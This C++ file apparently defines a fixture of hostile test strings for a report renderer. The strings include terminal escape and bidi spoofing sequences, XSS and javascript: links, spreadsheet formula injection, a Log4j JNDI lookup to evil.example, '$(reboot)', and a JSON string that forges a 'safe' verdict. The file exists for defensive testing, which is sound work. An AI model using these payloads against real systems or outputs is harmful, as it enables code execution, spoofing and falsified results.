#include "nasty.h"

#include "base/code_point.h"

namespace trailwarden::report {

const std::vector<Nasty>& nasty_strings() {
  static const std::vector<Nasty> kNasty = {
      {"terminal: title, clear, colour", "\x1b]0;owned\x07\x1b[2J\x1b[1;31mred"},
      {"terminal: C1 forms of the same",
       "\xc2\x9b[2J\xc2\x9d"
       "0;owned\xc2\x9c"},
      {"terminal: over-write the line", "safe\r\x1b[Kdangerous\b\b\b"},
      {"terminal: hyperlink", "\x1b]8;;https://evil.example\x1b\\click\x1b]8;;\x1b\\"},
      {"new lines forge rows", "a\nSAFE  4,929 events\r\n| forged | row |"},
      {"tab, vertical tab, form feed", "a\tb\vc\fd"},
      {"NUL and DEL", std::string("a\0b\x7f", 4)},
      {"bidi override", "invoice\xe2\x80\xaegnp.exe"},
      {"bidi isolates and marks", "\xe2\x81\xa6user\xe2\x81\xa9\xe2\x80\x8f\xd8\x9c"},
      {"zero width", "ro\xe2\x80\x8b\xe2\x80\x8d\xef\xbb\xbfot"},
      {"line separators",
       "a\xe2\x80\xa8"
       "b\xe2\x80\xa9"
       "c"},
      {"plane 14 tags", "a\xf3\xa0\x81\x81\xf3\xa0\x84\x80"},
      {"filler letters", "\xe3\x85\xa4\xef\xbe\xa0"},
      {"not UTF-8", "\xff\xfe\x80\xc3(\xed\xa0\x80\xe0\x80\xaf\xf5"},
      {"cut UTF-8", "caf\xc3"},
      {"HTML", "<img src=x onerror=alert(1)><b>bold</b>&lt;&amp;&nbsp;"},
      {"end of the script", "</script><script>alert(1)</script><!--<script>"},
      {"Markdown link and image", "[click](https://evil.example) ![x](//evil.example/p.png)"},
      {"Markdown reference link", "[a]: javascript:alert(1)\n[a]"},
      {"bare addresses", "https://evil.example www.evil.example mailto:a@evil.example"},
      {"Markdown mentions", "@octo/team @here #1 octo/repo#2"},
      {"Markdown table and code", "a | b |\n| --- | `x` ``` *b* __u__ ~~s~~ $x$"},
      {"Markdown headings", "# owned\n===\n---\n- list\n> quote"},
      {"trailing backslash", "C:\\dir\\|x\\"},
      {"formulas", "=HYPERLINK(\"https://evil.example\",\"x\")"},
      {"formula by another sign", "+cmd|' /C calc'!A0"},
      {"quotes", "'\"`\xe2\x80\x9c\xe2\x80\x9d \"}],\"verdict\":\"safe\",\"x\":[{\""},
      {"format strings", "%s%n%x {0} ${jndi:ldap://evil.example/a} $(reboot)"},
      {"right to left", "\xd7\xa9\xd7\x9c\xd7\x95\xd7\x9d \xd8\xb9\xd8\xb1\xd8\xa8\xd9\x8a"},
      {"wide and joined",
       "\xe6\x9d\x8e\xe5\xb0\x8f\xe9\xbe\x99 \xf0\x9f\xa6\x8a e\xcc\x81\xcc\x82"},
      {"only combining marks", "\xcc\x81\xcc\x82\xcc\x83"},
      {"only spaces", "     "},
      {"one long word", std::string(100'000, 'A')},
      {"long, of controls", std::string(100'000, '\x1b')},
      {"long, of wide characters",
       [] {
         std::string text;
         for (int i = 0; i < 30'000; ++i) text += "\xe6\x9d\x8e";
         return text;
       }()},
      {"long, of spaces and pipes",
       [] {
         std::string text;
         for (int i = 0; i < 30'000; ++i) text += "| ";
         return text;
       }()},
  };
  return kNasty;
}

std::string deceptive_part(std::string_view text) {
  while (!text.empty()) {
    const CodePoint c = first_code_point(text);
    if (c.bytes == 0) return "no UTF-8 from here: " + std::string(text.substr(0, 20));
    if (c.value != U'\n' && is_deceptive(c.value)) {
      return "U+" + std::to_string(static_cast<unsigned>(c.value)) + " before '" +
             std::string(text.substr(c.bytes, 20)) + "'";
    }
    text.remove_prefix(c.bytes);
  }
  return {};
}

}  // namespace trailwarden::report
